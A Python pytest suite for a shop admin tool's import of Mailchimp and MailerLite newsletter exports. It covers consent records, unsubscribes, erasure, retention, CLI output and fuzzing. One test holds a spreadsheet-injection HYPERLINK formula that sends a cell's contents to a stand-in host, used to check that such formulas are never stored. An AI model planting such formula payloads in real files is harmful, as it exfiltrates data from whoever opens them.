"""Newsletter lists in (issue #12 point 5): Mailchimp and MailerLite audience exports."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from newsletter_exports import write_mailchimp, write_mailchimp_zip, write_mailerlite
from sqlalchemy import func, select

from minime_admin.cli import main
from minime_admin.domain.actor import Actor
from minime_admin.domain.audit_actions import AuditAction
from minime_admin.domain.categories import DataCategory
from minime_admin.domain.clock import FixedClock
from minime_admin.domain.newsletter import ListFormat
from minime_admin.importers.tables import NotATable
from minime_admin.progress import Cancelled
from minime_admin.services import (
    customer_actions,
    customer_page,
    customer_search,
    newsletter_import,
)
from minime_admin.services.database import Database
from minime_admin.services.erasure import execute_erasure, plan_erasure
from minime_admin.services.newsletter_import import NewsletterImportResult
from minime_admin.store import audit_repo
from minime_admin.store.models import ConsentEvent, Customer, NewsletterSubscription

BOTH_BACKENDS = True  # also on PostgreSQL (tests/conftest.py: backend)

MAILCHIMP, MAILERLITE = ListFormat.MAILCHIMP, ListFormat.MAILERLITE
OPTIN = "2025-03-14 09:15:00"
UNSUB = "2026-11-25 08:30:00"  # the test's day: kept until the sweep tonight


def at(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


def add_customer(database: Database, first: str, last: str, email: str) -> int:
    with database.unit_of_work() as session:
        person = Customer(
            first_name=first, last_name=last, email=email, created_at=at("2024-05-01 10:00:00")
        )
        session.add(person)
        session.flush()
        customer_search.refresh_customers(session, [person.id])
        return person.id


def run(
    database: Database, clerk: Actor, path: Path, fmt: ListFormat, **options: Any
) -> NewsletterImportResult:
    return newsletter_import.import_newsletter(database.unit_of_work, clerk, path, fmt, **options)


def counts(result: NewsletterImportResult) -> dict[str, int]:
    return result.counts["subscriptions"].as_dict()


def subscriptions(database: Database) -> dict[tuple[str | None, str], NewsletterSubscription]:
    with database.session() as session:
        rows = session.execute(select(NewsletterSubscription)).scalars()
        return {(s.list_name, s.email): s for s in rows}


def events(database: Database, customer_id: int) -> list[tuple[str, str, datetime, str]]:
    with database.session() as session:
        rows = session.execute(
            select(ConsentEvent).where(ConsentEvent.customer_id == customer_id)
        ).scalars()
        return sorted((e.purpose, e.action, e.occurred_at, e.channel) for e in rows)


def audience(database: Database) -> list[int]:
    with database.session() as session:
        return customer_actions.marketing_audience(session)


def import_entries(database: Database) -> list[Any]:
    with database.session() as session:
        return [
            record
            for record, _, _ in audit_repo.stream_in_order(session)
            if record.action == AuditAction.SHOP_IMPORTED
        ]


def row_count(database: Database, model: Any) -> int:
    with database.session() as session:
        return int(session.execute(select(func.count()).select_from(model)).scalar_one())


@pytest.fixture
def people(database: Database) -> dict[str, int]:
    return {
        "girts": add_customer(database, "Ģirts", "Ķēniņš-Žūriņa", "Girts.Kenins@example.lv"),
        "liga": add_customer(database, "Līga", "Bērziņa", "liga.berzina@example.lv"),
        "anna": add_customer(database, "Anna", "Ozoliņa", "anna@example.lv"),
    }


def test_mailchimp_zip_of_three_files_preview_first_then_a_second_run_changes_nothing(
    database: Database, clerk: Actor, tmp_path: Path, people: dict[str, int]
) -> None:
    with database.unit_of_work() as session:  # Līga subscribed here, on the shop's own form
        session.add(
            NewsletterSubscription(
                customer_id=people["liga"],
                email="liga.berzina@example.lv",
                status="subscribed",
                subscribed_at=at("2024-06-01 12:00:00"),
            )
        )
    export = write_mailchimp_zip(
        tmp_path,
        {
            "subscribed": [
                {"Email Address": "GIRTS.KENINS@example.lv", "First Name": "Ģirts",
                 "OPTIN_TIME": OPTIN, "OPTIN_IP": "85.254.10.1",
                 "CONFIRM_TIME": "2025-03-14 09:17:00", "CONFIRM_IP": "85.254.10.2"},
                {"Email Address": "zane@example.lv", "First Name": "Zane", "OPTIN_TIME": OPTIN},
            ],
            "unsubscribed": [
                {"Email Address": "liga.berzina@example.lv", "OPTIN_TIME": "2024-06-01 12:00:00",
                 "UNSUB_TIME": UNSUB, "UNSUB_REASON": "Par daudz e-pastu"},
            ],
            "cleaned": [
                {"Email Address": "anna@example.lv", "OPTIN_TIME": OPTIN,
                 "CLEAN_TIME": "2026-11-25 03:03:03"},
            ],
        },
    )  # fmt: skip

    preview = run(database, clerk, export, MAILCHIMP, dry_run=True)
    assert preview.dry_run and counts(preview) == {
        "new": 4, "updated": 0, "unchanged": 0, "rejected": 0
    }  # fmt: skip
    assert row_count(database, NewsletterSubscription) == 1
    assert row_count(database, ConsentEvent) == 0 and import_entries(database) == []

    first = run(database, clerk, export, MAILCHIMP)
    assert counts(first) == counts(preview)
    rows = subscriptions(database)
    girts = rows[("mailchimp", "girts.kenins@example.lv")]
    assert (girts.customer_id, girts.status) == (people["girts"], "subscribed")
    assert (girts.subscribed_at, girts.optin_ip) == (at(OPTIN), "85.254.10.1")
    assert (girts.confirmed_at, girts.confirm_ip) == (at("2025-03-14 09:17:00"), "85.254.10.2")
    assert events(database, people["girts"]) == [("newsletter", "given", at(OPTIN), "mailchimp")]
    zane = rows[("mailchimp", "zane@example.lv")]  # on the list, not a customer: kept as such
    assert (zane.customer_id, zane.status) == (None, "subscribed")
    # Unsubscribed there: unsubscribed here, the shop's own subscription too, as an
    # unsubscribe recorded on the customer page would.
    liga = rows[("mailchimp", "liga.berzina@example.lv")]
    assert (liga.status, liga.unsubscribed_at) == ("unsubscribed", at(UNSUB))
    assert rows[(None, "liga.berzina@example.lv")].status == "unsubscribed"
    assert ("newsletter", "withdrawn", at(UNSUB), "mailchimp") in events(database, people["liga"])
    # Cleaned: ended, and no withdrawal claimed.
    anna = rows[("mailchimp", "anna@example.lv")]
    assert (anna.status, anna.unsubscribed_at) == ("cleaned", at("2026-11-25 03:03:03"))
    assert [e[1] for e in events(database, people["anna"])] == ["given"]
    assert audience(database) == [people["girts"]]
    with database.session() as session:  # the customer page (and so the copy) shows it all
        page = customer_page.read_customer_page(session, people["girts"])
    (section,) = [s for s in page.sections if s.info.category is DataCategory.NEWSLETTER]
    assert section.rows[0].values == {
        "list_name": "mailchimp", "email": "girts.kenins@example.lv", "status": "subscribed",
        "subscribed_at": at(OPTIN), "optin_ip": "85.254.10.1",
        "confirmed_at": at("2025-03-14 09:17:00"), "unsubscribed_at": None,
    }  # fmt: skip

    second = run(database, clerk, export, MAILCHIMP)
    assert counts(second) == {"new": 0, "updated": 0, "unchanged": 4, "rejected": 0}
    assert row_count(database, ConsentEvent) == 4
    entries = import_entries(database)
    assert len(entries) == 2  # one per real run, counts only
    details = json.dumps([e.details for e in entries])
    assert "example.lv" not in details and "Ģirts" not in details
    assert entries[0].details["counts"]["subscriptions"]["new"] == 4


def test_three_csv_files_with_bom_and_windows_1257_each_read_by_its_status(
    database: Database, clerk: Actor, tmp_path: Path, people: dict[str, int]
) -> None:
    subscribed = write_mailchimp(
        tmp_path,
        "subscribed",
        [{"Email Address": "anna@example.lv", "First Name": "Anna", "Last Name": "Ozoliņa",
          "OPTIN_TIME": OPTIN}],
    )  # fmt: skip
    unsubscribed = write_mailchimp(
        tmp_path,
        "unsubscribed",
        [{"Email Address": "girts.kenins@example.lv", "First Name": "Ģirts",
          "Last Name": "Ķēniņš-Žūriņa", "OPTIN_TIME": OPTIN, "UNSUB_TIME": UNSUB}],
        encoding="windows-1257",
    )  # fmt: skip
    cleaned = write_mailchimp(
        tmp_path, "cleaned", [{"Email Address": "liga.berzina@example.lv", "CLEAN_TIME": UNSUB}]
    )
    assert subscribed.read_bytes().startswith(b"\xef\xbb\xbf")
    for path in (subscribed, unsubscribed, cleaned):
        assert counts(run(database, clerk, path, MAILCHIMP))["new"] == 1
    rows = subscriptions(database)
    assert rows[("mailchimp", "anna@example.lv")].status == "subscribed"
    assert rows[("mailchimp", "girts.kenins@example.lv")].status == "unsubscribed"
    assert rows[("mailchimp", "liga.berzina@example.lv")].status == "cleaned"
    assert rows[("mailchimp", "liga.berzina@example.lv")].subscribed_at is None  # not in it


def test_mailerlite_export_in_windows_1257_with_semicolons(
    database: Database, clerk: Actor, tmp_path: Path, people: dict[str, int]
) -> None:
    export = write_mailerlite(
        tmp_path,
        [
            {"Email": "Girts.Kenins@example.lv", "Name": "Ģirts", "Last name": "Ķēniņš-Žūriņa",
             "Subscribed": "2025-03-14 09:15:00", "Signup IP": "85.254.10.1",
             "Opted in": "2025-03-14 09:20:00", "Opt-in IP": "85.254.10.9", "Status": "Active"},
            {"Email": "liga.berzina@example.lv", "Name": "Līga", "Subscribed": OPTIN,
             "Unsubscribed": UNSUB, "Status": "Unsubscribed"},
            {"Email": "anna@example.lv", "Subscribed": OPTIN, "Status": "Bounced"},
            {"Email": "juris@example.lv", "Name": "Jūris", "Subscribed": OPTIN,
             "Status": "Unconfirmed"},
            {"Email": "nav-e-pasts", "Subscribed": OPTIN, "Status": "Active"},
        ],
        encoding="windows-1257",
        delimiter=";",
    )  # fmt: skip
    result = run(database, clerk, export, MAILERLITE, list_name="Jaunumi")
    assert counts(result) == {"new": 3, "updated": 0, "unchanged": 0, "rejected": 2}
    assert [(r.source, r.position) for r in result.rejections] == [
        ("subscribers.csv", 5),
        ("subscribers.csv", 6),
    ]
    assert "never confirmed" in result.rejections[0].message()
    rows = subscriptions(database)
    girts = rows[("Jaunumi", "girts.kenins@example.lv")]
    assert (girts.subscribed_at, girts.optin_ip) == (at(OPTIN), "85.254.10.1")
    assert (girts.confirmed_at, girts.confirm_ip) == (at("2025-03-14 09:20:00"), "85.254.10.9")
    assert rows[("Jaunumi", "liga.berzina@example.lv")].status == "unsubscribed"
    assert rows[("Jaunumi", "anna@example.lv")].status == "cleaned"
    assert ("newsletter", "withdrawn", at(UNSUB), "mailerlite") in events(database, people["liga"])
    assert counts(run(database, clerk, export, MAILERLITE, list_name="Jaunumi")) == {
        "new": 0, "updated": 0, "unchanged": 3, "rejected": 2
    }  # fmt: skip


def test_an_erased_person_on_the_list_is_reported_not_brought_back(
    database: Database, clerk: Actor, tmp_path: Path, people: dict[str, int]
) -> None:
    with database.unit_of_work() as session:
        execute_erasure(session, clerk, plan_erasure(session, people["girts"]))
    export = write_mailchimp(
        tmp_path,
        "subscribed",
        [{"Email Address": "anna@example.lv", "OPTIN_TIME": OPTIN},
         {"Email Address": "Girts.Kenins@Example.lv", "OPTIN_TIME": OPTIN}],
    )  # fmt: skip
    result = run(database, clerk, export, MAILCHIMP)
    assert counts(result) == {"new": 1, "updated": 0, "unchanged": 0, "rejected": 1}
    (rejection,) = result.rejections
    assert rejection.position == 3 and rejection.message() == "erased on 2026-11-25"
    assert set(subscriptions(database)) == {("mailchimp", "anna@example.lv")}
    assert counts(run(database, clerk, export, MAILCHIMP))["rejected"] == 1


def test_an_objection_here_wins_over_the_list_and_is_reported(
    database: Database, clerk: Actor, tmp_path: Path, people: dict[str, int]
) -> None:
    with database.unit_of_work() as session:
        customer_actions.record_marketing_objection(session, clerk, people["anna"], "phone")
    export = write_mailchimp(
        tmp_path,
        "subscribed",
        [{"Email Address": "anna@example.lv", "OPTIN_TIME": "2026-11-30 10:00:00"}],
    )
    result = run(database, clerk, export, MAILCHIMP)
    assert counts(result) == {"new": 0, "updated": 0, "unchanged": 1, "rejected": 0}
    (warning,) = result.warnings
    assert warning.position == 2 and "remove the address from the list at Mailchimp" in (
        warning.message()
    )
    assert subscriptions(database) == {} and audience(database) == []


def test_unsubscribed_here_is_not_subscribed_again_by_a_stale_list(
    database: Database, clerk: Actor, clock: FixedClock, tmp_path: Path, people: dict[str, int]
) -> None:
    export = write_mailchimp(
        tmp_path, "subscribed", [{"Email Address": "anna@example.lv", "OPTIN_TIME": OPTIN}]
    )
    run(database, clerk, export, MAILCHIMP)
    assert audience(database) == [people["anna"]]
    with database.unit_of_work() as session:  # she tells the office; Mailchimp is not told
        customer_actions.record_unsubscribe(session, clerk, people["anna"], "email")
    result = run(database, clerk, export, MAILCHIMP)
    assert counts(result)["updated"] == 0 and len(result.warnings) == 1
    assert subscriptions(database)[("mailchimp", "anna@example.lv")].status == "unsubscribed"
    assert audience(database) == []
    # She signs up again at Mailchimp after that: a new consent, taken over.
    clock.advance(timedelta(days=3))
    again = write_mailchimp(
        tmp_path,
        "subscribed",
        [{"Email Address": "anna@example.lv", "OPTIN_TIME": "2026-11-27 08:00:00"}],
    )
    result = run(database, clerk, again, MAILCHIMP)
    assert counts(result)["updated"] == 1 and result.warnings == ()
    assert audience(database) == [people["anna"]]


def test_an_unsubscribe_past_its_retention_takes_effect_without_a_row_the_sweep_would_delete(
    database: Database, clerk: Actor, clock: FixedClock, tmp_path: Path, people: dict[str, int]
) -> None:
    from minime_admin.services import retention

    export = write_mailchimp(
        tmp_path,
        "subscribed",
        [{"Email Address": "anna@example.lv", "OPTIN_TIME": OPTIN}],
    )
    run(database, clerk, export, MAILCHIMP)
    old = "2026-02-01 18:30:00"
    unsubscribed = write_mailchimp(
        tmp_path,
        "unsubscribed",
        [{"Email Address": "liga.berzina@example.lv", "OPTIN_TIME": OPTIN, "UNSUB_TIME": old},
         {"Email Address": "nekliente@example.lv", "OPTIN_TIME": OPTIN, "UNSUB_TIME": old}],
    )  # fmt: skip
    # Rule 'newsletter_subscription' keeps an ended subscription 0 months: Līga's consent
    # evidence is written, her row is not; the non-customer leaves nothing behind.
    result = run(database, clerk, unsubscribed, MAILCHIMP)
    assert counts(result) == {"new": 0, "updated": 1, "unchanged": 1, "rejected": 0}
    assert set(subscriptions(database)) == {("mailchimp", "anna@example.lv")}
    assert [e[1:3] for e in events(database, people["liga"])] == [
        ("given", at(OPTIN)), ("withdrawn", at(old))
    ]  # fmt: skip
    # Anna unsubscribes there today; tomorrow's sweep deletes her row, and a run after it
    # neither makes it again nor counts anything as new.
    today = write_mailchimp(
        tmp_path,
        "unsubscribed",
        [{"Email Address": "anna@example.lv", "OPTIN_TIME": OPTIN, "UNSUB_TIME": UNSUB}],
    )
    assert counts(run(database, clerk, today, MAILCHIMP))["updated"] == 1
    cleaned = write_mailchimp(
        tmp_path, "cleaned", [{"Email Address": "girts.kenins@example.lv", "CLEAN_TIME": UNSUB}]
    )
    assert counts(run(database, clerk, cleaned, MAILCHIMP))["new"] == 1
    clock.advance(timedelta(days=1))  # both ended rows go, the cleaned one too
    assert retention.sweep(database.unit_of_work, clerk).deleted["newsletter_subscription"] == 2
    again = run(database, clerk, today, MAILCHIMP)
    assert counts(again) == {"new": 0, "updated": 0, "unchanged": 1, "rejected": 0}
    assert subscriptions(database) == {}


def test_a_subscriber_who_becomes_a_customer_later_is_linked(
    database: Database, clerk: Actor, tmp_path: Path
) -> None:
    export = write_mailchimp(
        tmp_path, "subscribed", [{"Email Address": "Zane@Example.lv", "OPTIN_TIME": OPTIN}]
    )
    run(database, clerk, export, MAILCHIMP)
    assert subscriptions(database)[("mailchimp", "zane@example.lv")].customer_id is None
    zane = add_customer(database, "Zane", "Kalniņa", "zane@example.lv")
    result = run(database, clerk, export, MAILCHIMP)
    assert counts(result)["updated"] == 1
    assert subscriptions(database)[("mailchimp", "zane@example.lv")].customer_id == zane
    assert audience(database) == [zane]


def test_a_shop_import_links_a_new_customer_to_their_subscription(
    database: Database, clerk: Actor, tmp_path: Path
) -> None:
    from fake_shop import KEY, SECRET, FakeShop, customer, running

    from minime_admin.importers.woocommerce import WooCommerceClient
    from minime_admin.services import shop_import

    export = write_mailchimp(
        tmp_path, "subscribed", [{"Email Address": "KLIENTS7@example.lv", "OPTIN_TIME": OPTIN}]
    )
    run(database, clerk, export, MAILCHIMP)
    with running(FakeShop([customer(7, 0)], [])) as shop:
        client = WooCommerceClient(shop.url, KEY, SECRET, attempts=1, timeout=5.0)
        shop_import.import_woocommerce(database.unit_of_work, clerk, client)
    with database.session() as session:
        linked = session.execute(select(Customer.id).where(Customer.external_id == "7"))
        customer_id = linked.scalar_one()
    assert subscriptions(database)[("mailchimp", "klients7@example.lv")].customer_id == (
        customer_id
    )


def test_cancel_keeps_the_committed_batches_and_still_writes_the_audit_entry(
    database: Database, clerk: Actor, tmp_path: Path
) -> None:
    members = [{"Email Address": f"lasitajs{n}@example.lv", "OPTIN_TIME": OPTIN} for n in range(5)]
    export = write_mailchimp(tmp_path, "subscribed", members)
    seen: list[tuple[int, int]] = []

    def progress(done: int, total: int) -> bool:
        seen.append((done, total))
        return done < 2

    with pytest.raises(Cancelled):
        run(database, clerk, export, MAILCHIMP, batch_size=2, progress=progress)
    assert seen == [(2, 5)]
    assert row_count(database, NewsletterSubscription) == 2
    (entry,) = import_entries(database)
    assert entry.details["counts"]["subscriptions"]["new"] == 2


@pytest.mark.parametrize(
    ("content", "fmt", "expected"),
    [
        ("mailchimp", MAILERLITE, "looks like a mailchimp export, not a mailerlite one"),
        ("mailerlite", MAILCHIMP, "looks like a mailerlite export, not a mailchimp one"),
        ("shop", MAILERLITE, "is not a mailerlite export: it has no column Subscribed"),
    ],
)
def test_a_file_of_another_format_is_one_sentence_and_writes_nothing(
    database: Database,
    clerk: Actor,
    tmp_path: Path,
    content: str,
    fmt: ListFormat,
    expected: str,
    capsys: pytest.CaptureFixture[str],
    clock: FixedClock,
) -> None:
    row = {"Email Address": "anna@example.lv", "Email": "anna@example.lv", "OPTIN_TIME": OPTIN}
    if content == "mailchimp":
        path = write_mailchimp(tmp_path, "subscribed", [row])
    elif content == "mailerlite":
        path = write_mailerlite(tmp_path, [{**row, "Subscribed": OPTIN}])
    else:
        path = tmp_path / "customers.csv"
        path.write_text("email;first_name\nanna@example.lv;Anna\n", encoding="utf-8")
    code = main(["--db", database.location, "import", "newsletter", str(path),
                 "--format", fmt.value], clock)  # fmt: skip
    err = capsys.readouterr().err
    assert code == 1 and expected in err and "Nothing was imported." in err
    assert err.count("\n") == 1 and "Traceback" not in err
    assert row_count(database, NewsletterSubscription) == 0 and import_entries(database) == []


def test_a_binary_file_renamed_csv_is_refused(
    database: Database, clerk: Actor, tmp_path: Path
) -> None:
    path = tmp_path / "subscribed_members_export.csv"
    path.write_bytes(b"PK\x03\x04\x00\x00garbage\x00\xff\xfe" * 50)
    with pytest.raises(NotATable, match="is not a table file"):
        run(database, clerk, path, MAILCHIMP)
    assert row_count(database, NewsletterSubscription) == 0 and import_entries(database) == []


def test_a_formula_in_a_name_is_never_stored(
    database: Database, clerk: Actor, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://x.example/?"&A1,"Ģirts")'
    export = write_mailchimp(
        tmp_path,
        "subscribed",
        [{"Email Address": "g@example.lv", "First Name": formula, "OPTIN_TIME": OPTIN}],
    )
    assert counts(run(database, clerk, export, MAILCHIMP))["new"] == 1
    (stored,) = subscriptions(database).values()
    assert formula not in json.dumps([str(v) for v in vars(stored).values()])


def test_the_command_prints_counts_as_json_and_a_preview_changes_nothing(
    database: Database, tmp_path: Path, clock: FixedClock, capsys: pytest.CaptureFixture[str]
) -> None:
    export = write_mailchimp(
        tmp_path,
        "subscribed",
        [{"Email Address": "anna@example.lv", "OPTIN_TIME": OPTIN},
         {"Email Address": "", "OPTIN_TIME": OPTIN}],
    )  # fmt: skip
    database.close()
    argv = ["--db", database.location, "import", "newsletter", str(export), "--format"]
    assert main([*argv, "mailchimp", "--dry-run", "--json"], clock) == 0
    preview = json.loads(capsys.readouterr().out)
    assert preview["dry_run"] is True and preview["list"] == "mailchimp"
    assert preview["counts"]["subscriptions"] == {
        "new": 1, "updated": 0, "unchanged": 0, "rejected": 1
    }  # fmt: skip
    assert preview["rejected"][0]["position"] == 3
    assert main([*argv, "mailchimp", "--list", "Jaunumi"], clock) == 0
    out = capsys.readouterr().out
    assert "List Jaunumi (mailchimp):" in out and "line 3: no valid e-mail address" in out
    assert main([*argv, "mailchimp", "--list", "Jaunumi", "--json"], clock) == 0
    again = json.loads(capsys.readouterr().out)["counts"]["subscriptions"]
    assert (again["new"], again["updated"]) == (0, 0)


# Cells as exports and hand edits make them: addresses, times in several shapes, IPs,
# separators, quotes and line breaks inside quotes, Latvian letters, formulas.
_cell = st.one_of(
    st.sampled_from(
        ["anna@example.lv", "ANNA@example.lv", "x@y", "", OPTIN, "14.03.2025 09:15",
         "2025-03-14T09:15:00Z", "9999-99-99", "85.254.10.1", "::1", "999.1.1.1",
         "active", "unsubscribed", "bounced", "junk", "unconfirmed", "Ģirts", "=1+1"]
    ),
    st.text(alphabet="aāčēģ@.;,\"'\n\r:0123456789-=TZ ", max_size=20),
)  # fmt: skip


@settings(max_examples=120, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    fmt=st.sampled_from(list(ListFormat)),
    status=st.sampled_from(["subscribed", "unsubscribed", "cleaned"]),
    rows=st.lists(st.lists(_cell, min_size=0, max_size=24), max_size=12),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "windows-1257"]),
)
def test_fuzz_every_row_is_a_record_or_a_rejection_with_its_line(
    tmp_path_factory: pytest.TempPathFactory,
    fmt: ListFormat,
    status: str,
    rows: list[list[str]],
    encoding: str,
) -> None:
    import csv
    import io

    from newsletter_exports import CLEANED, UNSUBSCRIBED
    from newsletter_exports import MAILCHIMP as MC_HEADER
    from newsletter_exports import MAILERLITE as ML_HEADER

    from minime_admin.errors import KnownError
    from minime_admin.importers.newsletter import SubscriberRecord, open_export
    from minime_admin.importers.records import Rejection

    extra = {"subscribed": [], "unsubscribed": UNSUBSCRIBED, "cleaned": CLEANED}[status]
    header = MC_HEADER + extra if fmt is MAILCHIMP else ML_HEADER
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows([header, *rows])
    path = tmp_path_factory.mktemp("fuzz") / f"{status}_members_export_1.csv"
    try:
        path.write_bytes(out.getvalue().encode(encoding))
    except UnicodeEncodeError:
        return
    try:
        export = open_export(path, fmt)
    except KnownError:
        return  # one clear sentence (e.g. a row of only separators is no header)
    items = list(export.rows())
    for item in items:
        assert isinstance(item, SubscriberRecord | Rejection)
        if isinstance(item, Rejection):
            assert item.position >= 2 and item.source == path.name and item.message()
        else:
            assert item.line >= 2 and item.email == item.email.lower()
            assert item.status.value == status or fmt is MAILERLITE
            for moment in (item.opted_in_at, item.confirmed_at, item.ended_at):
                assert moment is None or moment.tzinfo is not None
    lines = [i.position if isinstance(i, Rejection) else i.line for i in items]
    assert lines == sorted(lines) and len(lines) == len(set(lines))
    written = [r for r in rows if any(c.strip() for c in r)]
    assert len(items) <= len(written)


@settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
@given(rows=st.lists(st.lists(_cell, min_size=11, max_size=11), min_size=1, max_size=6))
def test_fuzz_a_run_writes_or_rejects_and_a_second_run_changes_nothing(
    database: Database,
    clerk: Actor,
    tmp_path_factory: pytest.TempPathFactory,
    rows: list[list[str]],
) -> None:
    import csv
    import io

    from newsletter_exports import MAILERLITE as ML_HEADER

    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows([ML_HEADER, *rows])
    path = tmp_path_factory.mktemp("fuzz") / "subscribers.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    name = f"fuzz{abs(hash(out.getvalue()))}"
    first = run(database, clerk, path, MAILERLITE, list_name=name)
    assert all(r.position >= 2 for r in first.rejections)
    second = run(database, clerk, path, MAILERLITE, list_name=name)
    assert (counts(second)["new"], counts(second)["updated"]) == (0, 0)


def test_a_database_from_before_0012_keeps_its_subscriptions_and_takes_a_list(
    tmp_path: Path, clock: FixedClock, clerk: Actor
) -> None:
    import os

    import sqlalchemy as sa

    from minime_admin.services import database as db_service
    from minime_admin.store import migrate
    from minime_admin.store.sqlcipher import Secret, make_engine

    path, secret = tmp_path / "old.db", Secret(raw_key=os.urandom(32))
    engine = make_engine(path, secret)
    migrate.upgrade(engine, None, target="0010")
    with engine.begin() as connection:
        tables = sa.MetaData()
        tables.reflect(connection, only=("customers", "newsletter_subscriptions"))
        connection.execute(
            tables.tables["customers"].insert(),
            {"id": 1, "first_name": "Anna", "last_name": "Ozoliņa", "email": "anna@example.lv",
             "language": "lv", "created_at": datetime(2024, 1, 1)},
        )  # fmt: skip
        for number in (1, 2):  # the same address twice, as the app allowed before
            connection.execute(
                tables.tables["newsletter_subscriptions"].insert(),
                {"id": number, "customer_id": 1, "email": "anna@example.lv",
                 "status": "subscribed", "subscribed_at": datetime(2024, 1, number)},
            )  # fmt: skip
    engine.dispose()
    database = db_service.open_with_secret(path, secret, db_service.Unlock.KEYCHAIN, clock=clock)
    try:
        export = write_mailchimp(
            tmp_path,
            "unsubscribed",
            [{"Email Address": "anna@example.lv", "OPTIN_TIME": OPTIN, "UNSUB_TIME": UNSUB}],
        )
        assert counts(run(database, clerk, export, MAILCHIMP))["new"] == 1
        with database.session() as session:
            rows = list(
                session.execute(
                    select(NewsletterSubscription).order_by(NewsletterSubscription.id)
                ).scalars()
            )
        assert [(s.id, s.list_name, s.status) for s in rows] == [
            (1, None, "unsubscribed"), (2, None, "unsubscribed"), (3, "mailchimp", "unsubscribed")
        ]  # fmt: skip
    finally:
        database.close()
